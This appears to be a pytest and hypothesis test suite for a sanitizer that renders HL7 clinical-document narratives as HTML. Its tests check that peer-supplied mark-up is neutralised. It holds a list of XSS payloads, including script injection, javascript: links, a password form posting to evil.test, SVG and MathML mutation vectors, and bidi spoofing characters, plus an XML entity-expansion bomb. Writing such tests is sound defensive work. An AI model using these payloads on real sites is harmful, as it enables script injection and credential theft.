"""Nothing of a peer's mark-up reaches a page, whatever it sends."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from node.wire.reader.document import ReadableDocument
from node.wire.reader.read import read
from node.wire.xml import escape
from tests.ccda_documents import files, well_formed
from tests.console.allowed_html import assert_allowed, shown

XHTML = "http://www.w3.org/1999/xhtml"
SVG = "http://www.w3.org/2000/svg"
HOSTILE = [
    "<script>alert(1)</script><SCRIPT src='https://evil.test/x.js'/>",
    f"<x:script xmlns:x='{XHTML}'>alert(1)</x:script>",
    f"<x:img xmlns:x='{XHTML}' src='x' onerror='alert(1)'/>",
    (
        "<table onmouseover='alert(1)' style='background:url(https://evil.test)'><tr><td"
        " onclick='x' background='https://evil.test/t.gif'>a</td></tr></table>"
    ),
    "<content style='position:fixed;inset:0' styleCode='Bold&quot; onclick=&quot;x'>a</content>",
    "<linkHtml href='javascript:alert(1)'>a</linkHtml><a href='JaVaScRiPt:alert(1)'>b</a>",
    "<linkHtml href='data:text/html,&lt;script&gt;1&lt;/script&gt;'>a</linkHtml>",
    "<linkHtml href='https://evil.test/'>a</linkHtml><linkHtml href='//evil.test'>b</linkHtml>",
    (
        "<linkHtml href='#&quot;&gt;&lt;script&gt;'>a</linkHtml><content ID='&quot;&gt;&lt;script"
        "&gt;'>b</content>"
    ),
    "<img src='https://evil.test/pixel.gif'/><renderMultiMedia referencedObject='x'/>",
    (
        "<form action='https://evil.test'><input name='pw' type='password'/><button>x</button>"
        "<select><option>x</option></select><textarea>y</textarea></form>"
    ),
    "<iframe src='https://evil.test' srcdoc='&lt;script&gt;'/><frame/><object data='x'/><embed/>",
    (
        f"<svg xmlns='{SVG}' onload='alert(1)'><script>alert(1)</script><a href='javascript:1'>"
        "<text>t</text></a><foreignObject><iframe src='x'/></foreignObject></svg>"
    ),
    (
        "<math xmlns='http://www.w3.org/1998/Math/MathML'><mtext><table><mglyph><style>"
        "&lt;img src=x onerror=alert(1)&gt;</style></mglyph></table></mtext></math>"
    ),
    "<style>@import 'https://evil.test/x.css';</style><link rel='stylesheet' href='x'/>",
    "<meta http-equiv='refresh' content='0;url=https://evil.test'/><base href='//evil.test'/>",
    "<x:paragraph xmlns:x='urn:evil' x:onclick='y'>a</x:paragraph>",
    (
        "<content xmlns='urn:hl7-org:v3' xmlns:xlink='http://www.w3.org/1999/xlink'"
        " xlink:href='javascript:alert(1)'>a</content>"
    ),
    "<![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "<!-- --><?xml-stylesheet href='https://evil.test/x.xsl'?><?php echo 1 ?>--&gt;<paragraph/>",
    "<paragraph>\u202egnp.exe\u2066\u200b\ufeff\U000e0041</paragraph>",
    "<td><tr><table><caption><table><tr><caption>x</caption></tr></table></caption></table></tr></td>",
    (
        "<paragraph><paragraph><list><paragraph><item><table><paragraph>x</paragraph></table></item>"
        "</paragraph></list></paragraph></paragraph>"
    ),
    (
        "<linkHtml href='#k'>a<linkHtml href='#k'>b<footnoteRef IDREF='k'/></linkHtml></linkHtml>"
        "<table ID='k'><tr ID='k'><td ID='k'>c</td></tr></table><footnote ID='k'>d</footnote>"
    ),
    (
        "<table><tr><td colspan='1e9' rowspan='-3'>a</td><td colspan='0'>b</td>"
        "<td colspan='٣'>c</td></tr></table>"
    ),
    "<a><b><i><u><a><b><p>x<table>y</table></p></b></a></u></i></b></a>",
    "<noscript>&lt;img src=x&gt;</noscript><template><script>1</script></template><title>t</title>",
    "<br>text in a break</br><col>text</col>",
    "<xmp>a</xmp><plaintext>b</plaintext><listing>c</listing><textarea>d</textarea>",
]


def document(narrative: str, title: str = "T") -> bytes:
    return (
        '<ClinicalDocument xmlns="urn:hl7-org:v3"><component><structuredBody><component><section>'
        f"<title>{title}</title><text>{narrative}</text></section></component></structuredBody>"
        "</component></ClinicalDocument>"
    ).encode()


@pytest.mark.parametrize("narrative", HOSTILE)
def test_a_hostile_narrative_becomes_nothing_but_our_elements(narrative: str):
    page = shown(document(narrative))
    assert_allowed(page)
    assert "evil.test" not in page
    assert not {"\u202e", "\u2066", "\u200b", "\ufeff", "\U000e0041"} & set(page)


@pytest.mark.parametrize("narrative", HOSTILE)
def test_what_is_looked_for_opens_no_way_either(narrative: str):
    for term in ("<script>", 'a"', "&lt;", "lt", "amp", "al"):
        assert_allowed(shown(document(narrative), term))


def test_a_hostile_title_and_code_are_text():
    page = shown(document("x", title="&lt;script&gt;alert(1)&lt;/script&gt;"))
    tree = assert_allowed(page)
    assert "".join(tree.itertext()).startswith("<script>alert(1)</script>")


@pytest.mark.shared
def test_the_edge_documents_become_nothing_but_our_elements(shared_data: Path):
    seen = 0
    for path in sorted((shared_data / "ccda" / "edge").iterdir()):
        data = gzip.decompress(path.read_bytes())
        if len(data) < 1_000_000 and isinstance(read(data), ReadableDocument):
            assert_allowed(shown(data))
            seen += 1
    assert seen >= 5


@pytest.mark.shared
def test_real_documents_nest_as_html_wants_it(shared_data: Path):
    # one of each sender: the strict parser is slow
    senders = set()
    for name, data in files(shared_data):
        sender = name.partition("__")[0]
        if name.startswith("vendors") and sender not in senders and well_formed(data) is not None:
            senders.add(sender)
            assert_allowed(shown(data))
    assert len(senders) > 20


ENTITIES = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>"


def test_bombs_end_as_a_sentence():
    assert not isinstance(read(ENTITIES.encode() + document("&b;")), ReadableDocument)
    deep = "<content>" * 300 + "</content>" * 300
    assert not isinstance(read(document(deep)), ReadableDocument)
    wide = "<table>" + "<tr>" + "<td>x</td>" * 100_000 + "</tr></table>"
    found = read(document(wide))
    assert isinstance(found, ReadableDocument)
    assert found.left_out.large == 1
    assert found.sections[0].content == ()


NAMES = st.sampled_from(
    [
        "content",
        "paragraph",
        "list",
        "item",
        "table",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "caption",
        "br",
        "sub",
        "sup",
        "linkHtml",
        "footnote",
        "footnoteRef",
        "renderMultiMedia",
        "col",
        "colgroup",
        "script",
        "style",
        "a",
        "b",
        "p",
        "div",
        "svg",
        "form",
        "input",
        "img",
        "iframe",
        "title",
        "x:div",
        "x:script",
    ]
)
ATTRIBUTES = st.dictionaries(
    st.sampled_from(
        [
            "ID",
            "IDREF",
            "href",
            "styleCode",
            "listType",
            "colspan",
            "rowspan",
            "revised",
            "referencedObject",
            "src",
            "onclick",
            "style",
            "class",
            "id",
        ]
    ),
    st.one_of(
        st.sampled_from(
            ["a", "#a", "javascript:alert(1)", "Bold", "ordered", "3", "delete", "'\"><script>"]
        ),
        st.text(max_size=8),
    ),
    max_size=3,
)
TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe\uffff")
    | st.sampled_from("<>&\"'\u202e\u200b/"),
    max_size=12,
)


def written(text: str) -> str:
    return escape("".join(s for s in text if s >= " "))


@st.composite
def elements(draw: st.DrawFn, inner: st.SearchStrategy[str]) -> str:
    name = draw(NAMES)
    attributes = "".join(f' {k}="{written(v)}"' for k, v in draw(ATTRIBUTES).items())
    return f"<{name}{attributes}>{''.join(draw(st.lists(inner, max_size=4)))}</{name}>"


NARRATIVES = st.recursive(TEXT.map(written), lambda inner: elements(inner=inner), max_leaves=25)


@settings(max_examples=150)
@given(parts=st.lists(NARRATIVES, max_size=4), term=st.none() | TEXT.filter(lambda t: t.strip()))
def test_no_narrative_becomes_anything_else(parts: list[str], term: str | None):
    wrapped = f"<content xmlns:x='{XHTML}'>{''.join(parts)}</content>"
    assert_allowed(shown(document(wrapped), term))
